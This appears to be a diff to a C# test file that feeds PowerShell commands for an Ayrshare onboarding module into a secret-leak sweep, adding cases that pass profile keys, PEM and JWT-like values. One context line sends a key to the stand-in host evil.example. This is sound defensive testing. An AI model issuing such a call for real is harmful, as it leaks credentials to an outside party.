@@ -75,6 +75,8 @@ public sealed class SecretSweepTests : IDisposable
         + "profileKey = $key } -ProfileKeySecret key")]
     [InlineData("[pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Invoke-AyrshareOnboarding -Vault Company -JournalPath "
         + "$journal -SendEmail; Get-AyrshareOnboarding $journal")]
+    [InlineData("$row, [pscustomobject]@{ Title = 'Berta'; Email = 'b@c.example' } | Get-AyrshareOnboardingPlan -Vault Company "
+        + "-JournalPath $journal -SendEmail")]
     [InlineData("$sandbox.Link('Acme', 'gmb'); $row | Get-AyrshareSocialAccount; Get-AyrshareSocialAccount -ProfileKey $key | "
         + "Disconnect-AyrshareSocialAccount -PassThru")]
     [InlineData("$row | Disconnect-AyrshareSocialAccount -Network reddit -PassThru; Disconnect-AyrshareSocialAccount -PrimaryProfile "
@@ -161,6 +163,9 @@ public sealed class SecretSweepTests : IDisposable
     [InlineData("$row | Invoke-AyrshareOnboarding -Vault Company -JournalPath $journal; $row | Invoke-AyrshareOnboarding -Vault Locked "
         + "-JournalPath $journal")]
     [InlineData("$row | Invoke-AyrshareOnboarding -Vault Failing -JournalPath $journal; Get-AyrshareOnboarding $wrongPath")]
+    [InlineData("[pscustomobject]@{ ProfileKey = $key; Memo = $key; Note = $pem; Other = \"eyJhbGciOiJSUzI1NiJ9.$key\" } | "
+        + "Get-AyrshareOnboardingPlan -Vault Company -JournalPath $journal; $row | Get-AyrshareOnboardingPlan -Vault Locked "
+        + "-JournalPath $journal")]
     [InlineData("$sandbox.AddFault(@{ Kind = 'EchoSecrets' }); [pscustomobject]@{ Title = 'Berta' } | Invoke-AyrshareOnboarding -Vault "
         + "Company -JournalPath $journal")]
     [InlineData("Invoke-AyrshareApi https://evil.example/api/user?key=$key; Invoke-AyrshareApi \"user?profileKey=$key\"")]
